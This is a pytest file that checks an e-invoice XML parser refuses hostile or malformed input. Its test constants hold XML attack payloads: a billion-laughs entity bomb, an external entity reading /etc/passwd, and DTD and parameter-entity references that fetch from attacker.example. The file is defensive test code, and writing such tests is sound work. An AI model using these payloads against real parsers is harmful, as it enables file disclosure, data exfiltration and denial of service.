"""Hostile or broken XML is refused with INVALID_XML before anything is expanded or fetched."""

from __future__ import annotations

import pytest
from einvoice_samples import MINIMAL_CII, cii_invoice, cii_line, summation

from invoice_parser.contracts import error_catalogue
from invoice_parser.einvoice import INVALID_XML, read_einvoice
from invoice_parser.errors import ParserError
from invoice_parser.settings import Settings

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">&lol3;
</rsm:CrossIndustryInvoice>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100">&secret;
</rsm:CrossIndustryInvoice>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<r/>"""


def _refusal(data: bytes, settings: Settings | None = None) -> ParserError:
    with pytest.raises(ParserError) as raised:
        read_einvoice(data, settings or Settings())
    assert raised.value.code == INVALID_XML
    return raised.value


def test_invalid_xml_is_a_catalogued_error_code() -> None:
    assert INVALID_XML in error_catalogue()["errors"]


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_any_doctype_is_refused(document: bytes) -> None:
    assert _refusal(document).to_record() == {
        "error": {
            "code": "INVALID_XML",
            "message": "XML with a DOCTYPE declaration is refused",
            "details": {"refused": "a DOCTYPE declaration"},
        }
    }


def test_deep_nesting_is_refused() -> None:
    deep = b"<a>" * 100 + b"</a>" * 100

    assert _refusal(deep, Settings(max_xml_depth=64)).message == "XML nests deeper than 64 elements"


def test_oversize_xml_is_refused_before_parsing() -> None:
    assert _refusal(MINIMAL_CII, Settings(max_xml_bytes=1000)).details == {"maxBytes": 1000}


def test_malformed_xml_is_refused() -> None:
    assert _refusal(b"<rsm:CrossIndustryInvoice>").message.startswith("XML is not well-formed")


def test_an_undeclared_entity_is_refused() -> None:
    assert _refusal(b"<r>&xxe;</r>").message.startswith("XML is not well-formed: undefined entity")


def test_well_formed_xml_that_is_no_invoice_is_refused() -> None:
    assert _refusal(b"<config/>").message == "the XML root 'config' is not a CII or UBL invoice"


def test_a_number_in_exponent_notation_is_refused() -> None:
    assert _refusal(MINIMAL_CII.replace(b">25.00<", b">2.5E1<", 1)).details == {"field": "LineTotalAmount"}


def test_a_line_amount_too_long_to_derive_is_refused() -> None:
    huge = "9" * 35 + ".99"
    line = cii_line("1", "Hammer", huge, huge, "1").replace(
        "<ram:LineTotalAmount>1</ram:LineTotalAmount>", ""
    )

    refusal = _refusal(cii_invoice(line, summation("1", "1", "0", "1")))

    assert refusal.message.startswith("a derived amount has too many digits")
